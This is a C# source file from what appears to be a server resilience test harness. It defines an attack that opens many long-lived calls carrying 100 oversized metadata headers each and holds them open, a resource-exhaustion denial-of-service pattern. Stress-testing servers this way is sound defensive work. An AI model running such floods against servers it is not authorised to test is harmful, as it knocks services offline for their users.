using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Frames;

/// <summary>Calls with as much metadata as a server takes, kept open.</summary>
internal sealed class LargestHeaderLists : Attack
{
    public override Attacker By => Attacker.Peer;

    public override async Task RunAsync(Target target)
    {
        (string, string)[] lines = [.. Enumerable.Range(0, 100).Select(i => ($"x-{i}", new string('a', 1200)))];
        await target.OnManyAsync(4, async peer =>
        {
            for (int i = 0; i < target.Count(20, 500) && !peer.Gone; i++)
            {
                await peer.OpenAsync(Peer.Process, lines);
            }
        });
        await target.HoldAsync();
    }
}
